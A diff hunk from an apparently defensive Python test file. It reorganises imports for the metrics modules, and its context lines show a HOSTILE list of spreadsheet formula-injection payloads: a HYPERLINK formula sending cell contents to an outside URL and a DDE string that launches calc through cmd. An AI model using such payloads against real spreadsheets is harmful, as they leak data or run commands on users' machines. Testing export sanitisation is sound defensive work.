@@ -9,7 +9,8 @@ import openpyxl
 import pandas as pd
 import pytest
 
-from metrics import catalogue, explorer
+from metrics.reference import catalogue
+from metrics.views import explorer
 from ui import exports
 
 HOSTILE = ["=HYPERLINK(\"https://example.com/?\"&A1,\"Details\")", "+1+cmd|' /C calc'!A0",
